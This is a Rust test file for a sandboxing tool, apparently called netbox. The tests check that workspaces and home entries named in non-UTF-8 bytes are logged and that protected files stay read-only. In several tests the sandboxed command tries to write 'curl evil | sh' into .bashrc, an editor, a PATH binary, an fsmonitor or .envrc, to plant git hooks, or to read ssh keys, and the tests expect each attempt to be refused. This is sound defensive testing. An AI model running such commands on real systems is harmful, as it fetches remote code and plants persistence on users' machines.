//! Paths that are not UTF-8 (a directory named in Latin-1, as an old archive unpacks it):
//! a Unix path is bytes. netbox writes its paths as JSON (the event log, the record of an
//! audit owed, the probe's writes passed from pid 1), and reads them from the environment,
//! git's configuration and files, hook runners' texts, ssh's config and /etc/passwd. Such a
//! workspace runs, is logged whole and audited, and what such a name holds or names is
//! protected as it would be under any other name. Each test with its control.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::PathBuf;

use serde_json::Value;

use crate::support::{git, stderr, stdout, wait_for_path, Run, TestDir};

/// A run whose workspace is `dir/café` spelled in Latin-1 (`caf\xe9`, not UTF-8), a git
/// repository.
fn latin1_workspace(dir: &TestDir) -> Run {
    let mut run = Run::new(dir).arg("--quiet");
    run.workspace = dir.join("").join(OsStr::from_bytes(b"caf\xe9"));
    std::fs::create_dir_all(&run.workspace).unwrap();
    assert!(run.workspace.to_str().is_none());
    git(&run.workspace, &["init", "-q"]);
    run
}

/// The log's lines, each of which must be a whole record.
fn whole_records(run: &Run) -> Vec<Value> {
    let text = std::fs::read(&run.log).unwrap();
    let text = String::from_utf8(text).expect("the event log is UTF-8");
    text.lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap_or_else(|e| panic!("{e}: {line:?}")))
        .collect()
}

/// The workspace as the log writes it: each byte that is not UTF-8 as U+FFFD.
fn as_logged(path: &std::path::Path) -> String {
    path.to_string_lossy().into_owned()
}

/// A run in a repository of its own beside `dir/upstream`, a repository of one commit, with
/// a submodule of it added for each `(name, place)`.
fn with_submodules(dir: &TestDir, submodules: &[(&str, &OsStr)]) -> Run {
    let upstream = dir.join("upstream");
    std::fs::create_dir_all(&upstream).unwrap();
    git(&upstream, &["init", "-q"]);
    git(&upstream, &["commit", "-q", "--allow-empty", "-m", "sub"]);
    let run = Run::new(dir).arg("--quiet");
    git(&run.workspace, &["init", "-q"]);
    for (name, place) in submodules {
        let out = std::process::Command::new("git")
            .args([
                "-c",
                "protocol.file.allow=always",
                "submodule",
                "add",
                "-q",
                "--name",
            ])
            .arg(name)
            .arg(format!("file://{}", upstream.display()))
            .arg(place)
            .current_dir(&run.workspace)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
    }
    run
}

#[test]
fn a_workspace_named_in_bytes_that_are_not_utf8_runs_and_is_logged() {
    let dir = TestDir::new("byte-names-run");
    let run = latin1_workspace(&dir);
    // Control: the workspace is writable; the pin on .git holds by that name too.
    let out = run
        .sh("echo hi > made && { echo x > .git/config 2>/dev/null && echo wrote || echo kept; }");
    assert_eq!(stdout(&out), "kept\n", "{}", stderr(&out));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(run.workspace.join("made")).unwrap(),
        "hi\n"
    );
    let events = whole_records(&run);
    let start = events
        .iter()
        .find(|e| e["type"] == "session_start")
        .expect("a session_start record");
    assert_eq!(start["workspace"], as_logged(&run.workspace).as_str());
    assert_eq!(start["cwd"], as_logged(&run.workspace).as_str());
    assert!(
        start["protected"]
            .as_array()
            .unwrap()
            .contains(&Value::from(as_logged(&run.workspace.join(".git")))),
        "{start}"
    );
    let probe = events.iter().find(|e| e["type"] == "probe").unwrap();
    assert_eq!(probe["passed"], true, "{probe}");
    let denied: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "write_denied")
        .collect();
    assert_eq!(denied.len(), 1, "{denied:?}");
    assert_eq!(
        denied[0]["path"],
        as_logged(&run.workspace.join(".git/config")).as_str()
    );
    assert_eq!(events.last().unwrap()["type"], "session_end");
    assert_eq!(events.last().unwrap()["status"], 0);
}

#[test]
fn a_killed_run_in_a_workspace_named_in_bytes_is_checked_by_the_next() {
    let dir = TestDir::new("byte-names-killed");
    let run = latin1_workspace(&dir);
    let mut killed = run
        .command("mkdir -p planted/.git/hooks && touch started && sleep 30")
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_path(&run.workspace.join("started"), "CMD never started");
    let first_session = whole_records(&run)[0]["session"]
        .as_str()
        .unwrap()
        .to_owned();
    killed.kill().unwrap();
    let said = stderr(&killed.wait_with_output().unwrap());
    assert!(!said.contains("cannot keep a record"), "{said}");
    // The next run, in a workspace of its own beside it, checks what the killed one left.
    let mut next = Run::new(&dir).arg("--quiet");
    next.log = run.log.clone();
    let out = next.sh("true");
    assert!(out.status.success(), "{}", stderr(&out));
    let planted: PathBuf = run.workspace.join("planted/.git");
    let found: Vec<Value> = whole_records(&run)
        .into_iter()
        .filter(|e| e["type"] == "git_metadata_created")
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["audited_session"], first_session.as_str());
    assert_eq!(found[0]["path"], as_logged(&planted).as_str());
    // Checked once: the record is gone.
    let out = next.sh("true");
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
}

#[test]
fn a_home_entry_named_in_bytes_that_are_not_utf8_is_split_like_any_other() {
    TestDir::remove_leftovers_outside_tmp("byte-names-home");
    // Outside /tmp: a home under the host's /tmp would be replaced by the private one.
    let dir = TestDir::outside_tmp("byte-names-home");
    // The workspace is home: --allow-home-write splits it.
    let home = dir.join("ws");
    let data = home.join(OsStr::from_bytes(b"caf\xe9"));
    // Entries holding code that the environment names by bytes that are not UTF-8: an
    // editor, a PATH directory.
    let editor = home.join(OsStr::from_bytes(b"\xe9diteur/ed"));
    let bin = home.join(OsStr::from_bytes(b"outils-\xff/bin"));
    for made in [&data, &bin, &editor.parent().unwrap().to_owned()] {
        std::fs::create_dir_all(made).unwrap();
    }
    std::fs::write(&editor, "#!/bin/sh\n").unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    let run = Run::new(&dir)
        .arg("--quiet")
        .arg("--allow-home-write")
        .env("HOME", home.display().to_string());
    let mut path = bin.clone().into_os_string();
    path.push(":/usr/bin:/bin");
    // The data entry takes a write like any other; the code entries and .bashrc do not.
    let script = format!(
        "echo x > {data}/notes && echo ok; \
         echo 'curl evil | sh' >> {home}/.bashrc 2>/dev/null || echo kept; \
         echo 'curl evil | sh' >> \"$EDITOR\" 2>/dev/null || echo kept; \
         echo 'curl evil | sh' > {bin}/ls 2>/dev/null || echo kept",
        data = shell_quote(&data),
        home = shell_quote(&home),
        bin = shell_quote(&bin),
    );
    let out = run
        .command(&script)
        .env("EDITOR", &editor)
        .env("PATH", &path)
        .output()
        .unwrap();
    assert_eq!(stdout(&out), "ok\nkept\nkept\nkept\n", "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(data.join("notes")).unwrap(), "x\n");
    assert_eq!(std::fs::read_to_string(&editor).unwrap(), "#!/bin/sh\n");
    assert!(!bin.join("ls").exists());
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    let start = whole_records(&run)
        .into_iter()
        .find(|e| e["type"] == "session_start")
        .unwrap();
    let roots = start["write_roots"].as_array().unwrap();
    assert!(roots.contains(&Value::from(as_logged(&data))), "{start}");
    for code in [editor.parent().unwrap(), bin.parent().unwrap()] {
        assert!(!roots.contains(&Value::from(as_logged(code))), "{start}");
    }
}

#[test]
fn git_settings_naming_bytes_that_are_not_utf8_pin_those_very_paths() {
    let dir = TestDir::new("byte-names-git");
    let run = Run::new(&dir).arg("--quiet");
    git(&run.workspace, &["init", "-q"]);
    let latin = run.workspace.join(OsStr::from_bytes(b"caf\xe9"));
    let hooks = latin.join("hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    let monitor = latin.join(OsStr::from_bytes(b"m\xff"));
    std::fs::write(&monitor, "#!/bin/sh\n").unwrap();
    // A global config outside the workspace naming the monitor, in Latin-1 bytes.
    let global = dir.join("gitconfig");
    let mut text = b"[core]\n\tfsmonitor = ".to_vec();
    text.extend_from_slice(monitor.as_os_str().as_bytes());
    text.push(b'\n');
    std::fs::write(&global, text).unwrap();
    // `git -c core.hooksPath=...` as git hands it on, and the global config: each was read
    // as unset, or as a path with U+FFFD in it, and what it names took a hook or a
    // monitor the host's next `git status` would run.
    let script = format!(
        "{{ echo '#!/bin/sh' > {hooks}/pre-commit 2>/dev/null && echo planted; }} || echo kept; \
         {{ echo 'curl evil | sh' >> {monitor} 2>/dev/null && echo planted; }} || echo kept; \
         echo x > {latin}/notes && echo ok",
        hooks = shell_quote(&hooks),
        monitor = shell_quote(&monitor),
        latin = shell_quote(&latin),
    );
    let out = run
        .command(&script)
        .env("GIT_CONFIG_COUNT", "1")
        .env("GIT_CONFIG_KEY_0", "core.hooksPath")
        .env("GIT_CONFIG_VALUE_0", &hooks)
        .env("GIT_CONFIG_GLOBAL", &global)
        .output()
        .unwrap();
    // The control: the directory holding both takes a write.
    assert_eq!(stdout(&out), "kept\nkept\nok\n", "{}", stderr(&out));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!hooks.join("pre-commit").exists());
    assert_eq!(std::fs::read_to_string(&monitor).unwrap(), "#!/bin/sh\n");
    assert_eq!(std::fs::read_to_string(latin.join("notes")).unwrap(), "x\n");
}

/// `path` for bash, byte for byte: `$'...'` with every byte escaped.
fn shell_quote(path: &std::path::Path) -> String {
    let escaped: String = path
        .as_os_str()
        .as_bytes()
        .iter()
        .map(|b| format!("\\x{b:02x}"))
        .collect();
    format!("$'{escaped}'")
}

#[test]
fn a_pin_lost_on_the_host_in_a_workspace_named_in_bytes_stops_the_run() {
    let dir = TestDir::new("byte-names-pinlost");
    let run = latin1_workspace(&dir);
    std::fs::write(run.workspace.join(".envrc"), "export A=1\n").unwrap();
    // CMD waits, then tries to rewrite .envrc: possible only if the pin went away.
    let child = run
        .command("touch started; sleep 2; echo 'curl evil | sh' > .envrc && echo PLANTED; sleep 5; echo FINISHED")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_path(&run.workspace.join("started"), "CMD never started");
    // An editor's save on the host: pid 1 says which pin went, by its bytes.
    std::fs::write(run.workspace.join(".envrc.new"), "export A=2\n").unwrap();
    std::fs::rename(
        run.workspace.join(".envrc.new"),
        run.workspace.join(".envrc"),
    )
    .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(&format!(
            "{} was removed or replaced on the host",
            as_logged(&run.workspace.join(".envrc"))
        )),
        "{}",
        stderr(&out)
    );
    assert!(!stdout(&out).contains("PLANTED"));
    assert!(!stdout(&out).contains("FINISHED"));
    // Control: the same run, untouched, finishes.
    let out = run.sh("echo FINISHED");
    assert_eq!(stdout(&out), "FINISHED\n", "{}", stderr(&out));
}

#[test]
fn a_submodule_checked_out_at_a_path_in_bytes_keeps_its_hooks_path_pinned() {
    let dir = TestDir::new("byte-names-submodule");
    // Its name is plain (its .git file names a UTF-8 path), its place is not: git writes
    // `worktree = ../../../caf\xe9` into the submodule's config.
    let place = OsStr::from_bytes(b"caf\xe9");
    let run = with_submodules(&dir, &[("plain", place)]);
    let sub = run.workspace.join(place);
    git(&sub, &["config", "core.hooksPath", ".githooks"]);
    let script = format!(
        "{{ mkdir -p {sub}/.githooks && echo '#!/bin/sh' > {sub}/.githooks/pre-commit; }} 2>/dev/null \
         && echo planted || echo kept; echo x > {sub}/notes && echo ok",
        sub = shell_quote(&sub)
    );
    let out = run.sh(&script);
    // The control: the submodule's work tree takes a write.
    assert_eq!(stdout(&out), "kept\nok\n", "{}", stderr(&out));
    assert!(!sub.join(".githooks/pre-commit").exists());
}

#[test]
fn a_linked_worktree_in_a_workspace_named_in_bytes_is_audited() {
    let dir = TestDir::new("byte-names-worktree");
    let run = latin1_workspace(&dir);
    git(
        &run.workspace,
        &["commit", "-q", "--allow-empty", "-m", "one"],
    );
    git(&run.workspace, &["worktree", "add", "-q", "wt"]);
    git(&run.workspace, &["config", "core.hooksPath", ".githooks"]);
    // What the linked worktree's git runs, made inside the workspace: said when the run
    // ends, as for a workspace named in UTF-8 (its .git file names the workspace's bytes).
    let out =
        run.sh("mkdir -p wt/.githooks && echo '#!/bin/sh' > wt/.githooks/pre-commit && echo made");
    assert_eq!(stdout(&out), "made\n", "{}", stderr(&out));
    let hook = as_logged(&run.workspace.join("wt/.githooks/pre-commit"));
    assert!(
        stderr(&out).contains(&format!("the command created {hook}, which git runs")),
        "{}",
        stderr(&out)
    );
    let found: Vec<Value> = whole_records(&run)
        .into_iter()
        .filter(|e| e["type"] == "git_metadata_created" && e["kind"] == "code_path")
        .collect();
    assert!(
        found.iter().any(|e| e["path"] == hook.as_str()),
        "{found:?}"
    );
}

#[test]
fn a_hook_runners_config_named_in_bytes_is_pinned() {
    let dir = TestDir::new("byte-names-runner");
    let run = latin1_workspace(&dir);
    // pre-commit installed with `-c cfg\xe9.yaml`: its hook names that config.
    let config = run.workspace.join(OsStr::from_bytes(b"cfg\xe9.yaml"));
    std::fs::write(&config, "repos: []\n").unwrap();
    let mut hook =
        b"#!/usr/bin/env bash\n# File generated by pre-commit\nARGS=(hook-impl --config=".to_vec();
    hook.extend_from_slice(
        b"cfg\xe9.yaml --hook-type=pre-commit)\nexec pre-commit \"${ARGS[@]}\"\n",
    );
    std::fs::write(run.workspace.join(".git/hooks/pre-commit"), hook).unwrap();
    let script = format!(
        "{{ echo '- repo: local' >> {config}; }} 2>/dev/null && echo changed || echo kept; \
         echo x > notes && echo ok",
        config = shell_quote(&config)
    );
    let out = run.sh(&script);
    assert_eq!(stdout(&out), "kept\nok\n", "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&config).unwrap(), "repos: []\n");
}

/// `--ssh-agent` hides the private keys ssh's config names: one named in Latin-1 bytes too.
#[test]
fn a_key_the_ssh_config_names_in_bytes_reads_empty_with_the_agent() {
    TestDir::remove_leftovers_outside_tmp("byte-names-ssh");
    let dir = TestDir::outside_tmp("byte-names-ssh");
    let home = dir.join("home");
    let keys = home.join(OsStr::from_bytes(b"cl\xe9s"));
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(&keys).unwrap();
    let key = keys.join("named");
    let made = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "netbox-test", "-f"])
        .arg(&key)
        .status()
        .expect("ssh-keygen is needed for this test");
    assert!(made.success());
    std::fs::write(keys.join("readme"), "not a key\n").unwrap();
    // A second key, named through a variable whose value is in those bytes.
    let other = keys.join("other");
    std::fs::copy(&key, &other).unwrap();
    let mut config = b"Host git.test\n  IdentityFile ~/cl\xe9s/named\n".to_vec();
    config.extend_from_slice(b"Host other.test\n  IdentityFile ${KEYS}/other\n");
    std::fs::write(home.join(".ssh/config"), config).unwrap();
    let agent_dir = TestDir::new("byte-names-ssh-socket");
    let socket = agent_dir.join("agent.sock");
    let mut agent = std::process::Command::new("ssh-agent")
        .args(["-D", "-a"])
        .arg(&socket)
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("ssh-agent is needed for this test");
    wait_for_path(&socket, "the agent's socket");
    let script = format!(
        "wc -c < {key}; wc -c < {other}; cat {readme}",
        key = shell_quote(&key),
        other = shell_quote(&other),
        readme = shell_quote(&keys.join("readme"))
    );
    let out = Run::new(&dir)
        .arg("--quiet")
        .arg("--ssh-agent")
        .env("HOME", home.display().to_string())
        .env("SSH_AUTH_SOCK", socket.display().to_string())
        .command(&script)
        .env("KEYS", &keys)
        .output()
        .unwrap();
    let _ = agent.kill();
    let _ = agent.wait();
    // The control: the directory's other file reads as it is.
    assert_eq!(stdout(&out), "0\n0\nnot a key\n", "{}", stderr(&out));
}

#[test]
fn a_submodule_whose_name_ends_in_a_space_is_not_taken_for_another() {
    let dir = TestDir::new("byte-names-space");
    // Two submodules whose git directories are `modules/foo` and `modules/foo `: git
    // reads `gitdir: ../.git/modules/foo ` to its end.
    let run = with_submodules(
        &dir,
        &[("foo", OsStr::new("plain")), ("foo ", OsStr::new("spaced"))],
    );
    git(
        &run.workspace.join("spaced"),
        &["config", "core.hooksPath", ".githooks"],
    );
    let out = run.sh(
        "{ mkdir -p spaced/.githooks && echo '#!/bin/sh' > spaced/.githooks/pre-commit; } 2>/dev/null \
         && echo planted || echo kept; echo x > spaced/notes && echo ok",
    );
    // The control: the submodule's work tree takes a write.
    assert_eq!(stdout(&out), "kept\nok\n", "{}", stderr(&out));
}

#[test]
fn a_home_entry_named_with_a_unicode_space_keeps_its_code_read_only() {
    TestDir::remove_leftovers_outside_tmp("byte-names-nbsp");
    let dir = TestDir::outside_tmp("byte-names-nbsp");
    // The workspace is home, split by --allow-home-write. A no-break space (U+00A0) in an
    // entry's name: no shell splits a word there.
    let home = dir.join("ws");
    let tools = home.join("My\u{a0}Tools");
    std::fs::create_dir_all(&tools).unwrap();
    std::fs::create_dir_all(home.join("notes")).unwrap();
    std::fs::write(tools.join("ed"), "#!/bin/sh\n").unwrap();
    let run = Run::new(&dir)
        .arg("--quiet")
        .arg("--allow-home-write")
        .env("HOME", home.display().to_string())
        .env("VISUAL", "~/My\u{a0}Tools/ed");
    let out = run.sh(
        "{ echo 'curl evil | sh' >> ~/My$'\\xc2\\xa0'Tools/ed; } 2>/dev/null && echo changed || echo kept; \
         echo x > notes/a && echo ok",
    );
    // The control: a data entry takes a write.
    assert_eq!(stdout(&out), "kept\nok\n", "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(tools.join("ed")).unwrap(),
        "#!/bin/sh\n"
    );
}

#[test]
fn git_paths_holding_unicode_spaces_or_an_optional_mark_are_pinned_whole() {
    let dir = TestDir::new("byte-names-git-words");
    let run = Run::new(&dir).arg("--quiet");
    git(&run.workspace, &["init", "-q"]);
    std::fs::create_dir_all(run.workspace.join("bin")).unwrap();
    let monitor = run.workspace.join("bin/mon\u{a0}x");
    std::fs::write(&monitor, "#!/bin/sh\n").unwrap();
    git(
        &run.workspace,
        &["config", "core.fsmonitor", "./bin/mon\u{a0}x"],
    );
    // `:(optional)` is part of the path to git 2.47, and a mark to a newer git.
    git(
        &run.workspace,
        &["config", "core.hooksPath", ":(optional).hk"],
    );
    let out = run
        .command(
            "{ echo 'curl evil | sh' >> \"$MONITOR\"; } 2>/dev/null && echo changed || echo kept; \
             { mkdir -p ':(optional).hk' && echo x > ':(optional).hk/pre-commit'; } 2>/dev/null \
             && echo planted || echo kept; \
             { mkdir -p .hk && echo x > .hk/pre-commit; } 2>/dev/null && echo planted || echo kept; \
             echo x > bin/other && echo ok",
        )
        .env("MONITOR", &monitor)
        .output()
        .unwrap();
    // The control: the directory holding the monitor takes a write.
    assert_eq!(stdout(&out), "kept\nkept\nkept\nok\n", "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&monitor).unwrap(), "#!/bin/sh\n");
}

#[test]
fn a_command_named_in_bytes_that_are_not_utf8_has_its_refused_writes_logged() {
    let dir = TestDir::new("byte-names-comm");
    let run = Run::new(&dir).arg("--quiet");
    git(&run.workspace, &["init", "-q"]);
    // CMD names itself in such bytes (/proc/self/comm), then tries git's config.
    // Through /proc/self/cwd: the judge looks up whose link that is by its status file.
    let out = run.sh(
        "echo x > /proc/self/cwd/.git/config 2>/dev/null; printf 'x\\377y' > /proc/$$/comm; \
         echo x > /proc/self/cwd/.git/config 2>/dev/null; echo done",
    );
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    let denied = whole_records(&run)
        .into_iter()
        .filter(|e| e["type"] == "write_denied")
        .count();
    // The control is the first attempt, made under bash's own name.
    assert_eq!(denied, 2);
}

#[test]
fn a_variable_in_bytes_that_are_not_utf8_does_not_stop_a_tool_s_discovery() {
    let dir = TestDir::new("byte-names-tool");
    // --cache none: as nobody (HOME=/nonexistent) there is no cache home to keep.
    let run = Run::new(&dir).args_from(&["--quiet", "--cache", "none", "--allow-tool", "cargo"]);
    let out = run
        .command("echo ran")
        .env("EDITOR", OsStr::from_bytes(b"/tmp/caf\xe9/ed"))
        .output()
        .unwrap();
    assert_eq!(stdout(&out), "ran\n", "{}", stderr(&out));
    assert!(out.status.success(), "{}", stderr(&out));
}
